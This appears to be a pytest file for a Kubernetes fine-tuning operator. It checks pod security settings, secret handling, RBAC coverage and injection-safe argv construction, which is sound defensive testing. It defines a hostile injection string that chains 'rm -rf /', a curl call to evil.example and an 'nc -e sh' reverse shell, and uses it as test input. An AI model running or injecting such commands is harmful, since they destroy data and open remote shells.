"""Every manifest the operator renders (render.children) for a spread of jobs, checked for
pod security, secrets, argv and RBAC; and the local launcher's argv.

The jobs: the three example YAMLs and variants of them (PVC output, Kueue queue, scheduling
constraints, a Secret reference, hostile strings in every free-text field), each planned by
the real planner, each at attempts 0 and 1. The chart's own manifests are checked by
tests/chart.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest
import yaml
from finetune_contract.api import FineTuneJob
from finetune_operator import permissions, render
from finetune_operator.local.launcher import rank_environment, torchrun_command
from finetune_operator.planner import plan_job
from finetune_operator.settings import Settings
from finetune_operator.validation import validate_job

from tests.conftest import ROOT

HOSTILE = "x; rm -rf / $(curl evil.example) `id` | nc -e sh && echo"
EXAMPLES = sorted((ROOT / "examples").glob("*.yaml"))
VARIANTS = {
    "as-written": {},
    "pvc-output": {"output": {"pvc": "checkpoints", "path": "/mnt/out"}},
    "queued": {"resources": {"queueName": "research", "priorityClassName": "training",
                             "nodeSelector": {"pool": "gpu"},
                             "tolerations": [{"key": "gpu", "operator": "Exists"}]}},
    "hf-secret": {"secrets": {"hfToken": {"name": "hf-token", "key": "token"}}},
    # model.name must be a Hugging Face id (test_shell_text_as_model_name_is_refused)
    "hostile-strings": {"output": {"path": f"/out/{HOSTILE}"},
                        "dataset": {"train": {"path": f"data/{HOSTILE}.jsonl"}}},
}
# Pod Security Standards, restricted profile: the volume types it allows.
RESTRICTED_VOLUMES = {"configMap", "csi", "downwardAPI", "emptyDir", "ephemeral",
                      "persistentVolumeClaim", "projected", "secret"}


def _merge(base: dict, extra: dict) -> dict:
    out = copy.deepcopy(base)
    for key, value in extra.items():
        if isinstance(value, dict) and isinstance(out.get(key), dict) and key != "train":
            out[key] = _merge(out[key], value)
        else:
            out[key] = value
    return out


def _cases() -> list[Any]:
    cases = []
    for example in EXAMPLES:
        doc = yaml.safe_load(example.read_text())
        for variant, extra in VARIANTS.items():
            cases.append(pytest.param(doc, extra, id=f"{example.stem}-{variant}"))
    return cases


def _render(doc: dict, extra: dict, attempt: int) -> tuple[list[dict], Any, Any]:
    job = FineTuneJob.model_validate({**doc, "spec": _merge(doc["spec"], extra)})
    plan = plan_job(job.spec)
    owner = render.Owner(name=job.metadata.name, namespace="team-a", uid="uid-1")
    settings = Settings(default_image="registry.example/trainer:1")
    return render.children(owner, job.spec, plan, settings, attempt), owner, plan


def _pod(objects: list[dict]) -> dict:
    (job,) = [o for o in objects if o["kind"] == "Job"]
    return job["spec"]["template"]["spec"]


@pytest.mark.parametrize("doc,extra", _cases())
@pytest.mark.parametrize("attempt", [0, 1])
def test_rendered_pods_meet_the_restricted_pod_security_standard(doc, extra, attempt):
    pod = _pod(_render(doc, extra, attempt)[0])
    pod_ctx = pod["securityContext"]
    assert not pod.get("hostNetwork") and not pod.get("hostPID") and not pod.get("hostIPC")
    for volume in pod["volumes"]:
        kinds = set(volume) - {"name"}
        assert kinds <= RESTRICTED_VOLUMES, volume
    for container in pod.get("initContainers", []) + pod["containers"]:
        ctx = container["securityContext"]
        assert ctx.get("runAsNonRoot", pod_ctx.get("runAsNonRoot")) is True
        uid = ctx.get("runAsUser", pod_ctx.get("runAsUser"))
        assert uid is None or uid > 0
        assert ctx["allowPrivilegeEscalation"] is False
        assert ctx.get("privileged", False) is False
        assert ctx["capabilities"]["drop"] == ["ALL"] and not ctx["capabilities"].get("add")
        seccomp = ctx.get("seccompProfile", pod_ctx.get("seccompProfile"))
        assert seccomp["type"] in ("RuntimeDefault", "Localhost")
        assert all("hostPort" not in port for port in container.get("ports", []))


@pytest.mark.parametrize("doc,extra", _cases())
def test_trainer_pods_get_no_service_account_token(doc, extra):
    assert _pod(_render(doc, extra, 0)[0]).get("automountServiceAccountToken") is False


@pytest.mark.parametrize("doc,extra", _cases())
def test_no_secret_value_and_no_user_text_in_the_command(doc, extra):
    objects, owner, plan = _render(doc, extra, 1)
    (container,) = _pod(objects)["containers"]
    # argv is fixed: the torchrun launcher with arguments derived from the plan, never a shell
    assert container["command"] == ["python", "-m", "finetune_trainer.launch"]
    assert container["args"] == render.torchrun_args(owner, plan, 1)
    assert not any(shell in container["command"] for shell in ("sh", "bash", "/bin/sh"))
    argv = " ".join(container["command"] + container["args"])
    for fragment in ("rm -rf", "curl", "`id`", "data/", "/out/", doc["spec"]["model"].get(
            "name", "\0")):
        assert fragment not in argv
    # user text travels as data, in the ConfigMap, verbatim
    (config_map,) = [o for o in objects if o["kind"] == "ConfigMap"]
    config = yaml.safe_load(config_map["data"]["trainer.yaml"])
    if "dataset" in extra:
        assert config["spec"]["dataset"]["train"]["path"] == f"data/{HOSTILE}.jsonl"
    # a token only ever by reference to its Secret, in every container
    for each in _pod(objects).get("initContainers", []) + [container]:
        for entry in each["env"]:
            if any(word in entry["name"] for word in ("TOKEN", "SECRET", "PASSWORD")):
                assert "value" not in entry and "secretKeyRef" in entry["valueFrom"], entry
        assert not any(shell in each["command"] for shell in ("sh", "bash", "/bin/sh"))
    env = {e["name"]: e for e in container["env"]}
    job_spec = _merge(doc["spec"], extra)
    if "secrets" in job_spec:
        ref = job_spec["secrets"]["hfToken"]
        assert env["HF_TOKEN"]["valueFrom"]["secretKeyRef"] == {"name": ref["name"],
                                                                "key": ref["key"]}
    else:
        assert "HF_TOKEN" not in env


@pytest.mark.parametrize("doc,extra", _cases())
def test_every_rendered_kind_is_exactly_covered_by_the_operator_rbac(doc, extra):
    objects, owner, _ = _render(doc, extra, 0)
    granted = {(rule.api_group, rule.resource): set(rule.verbs) for rule in permissions.RULES}
    for obj in objects:
        group = obj["apiVersion"].rpartition("/")[0]
        resource = obj["kind"].lower() + "s"
        # created, read back by name, deleted on restart and deletion
        assert {"create", "get", "delete"} <= granted[(group, resource)], obj["kind"]
        assert obj["metadata"]["namespace"] == owner.namespace
        (ref,) = obj["metadata"]["ownerReferences"]
        assert ref["controller"] is True and ref["uid"] == owner.uid
    # nothing the operator renders needs Secrets, RBAC objects or wildcards
    assert not any(rule.resource in ("secrets", "roles", "rolebindings", "clusterroles",
                                     "clusterrolebindings", "*") or "*" in rule.verbs
                   for rule in permissions.RULES)
    assert {o["kind"] for o in objects} == {"ConfigMap", "Service", "Job"}


def test_local_launcher_passes_paths_as_single_arguments(tmp_path):
    config = tmp_path / f"run {HOSTILE}" / "trainer-config.yaml"
    argv = torchrun_command(config, 2)
    assert argv[argv.index("--config") + 1] == str(config)
    assert argv.count(str(config)) == 1
    assert "--max-restarts=1" in argv  # a dead rank restarts the gang (test_rank_faults.py)
    assert rank_environment({}, "cpu")["TORCH_DISABLE_SHARE_RDZV_TCP_STORE"] == "1"


@pytest.mark.parametrize("field", ["model", "dataset"])
def test_shell_text_as_a_hugging_face_id_is_refused_naming_the_field(field):
    doc = yaml.safe_load((ROOT / "examples" / "llama-8b-sft.yaml").read_text())
    if field == "model":
        doc["spec"]["model"]["name"] = HOSTILE
        where = "spec.model.name"
    else:
        doc["spec"]["dataset"]["train"] = {"hf": HOSTILE}
        where = "spec.dataset.train.hf"
    job, problems = validate_job(doc)
    assert job is None
    assert [p.path for p in problems] == [where]
    assert "Hugging Face id" in problems[0].message
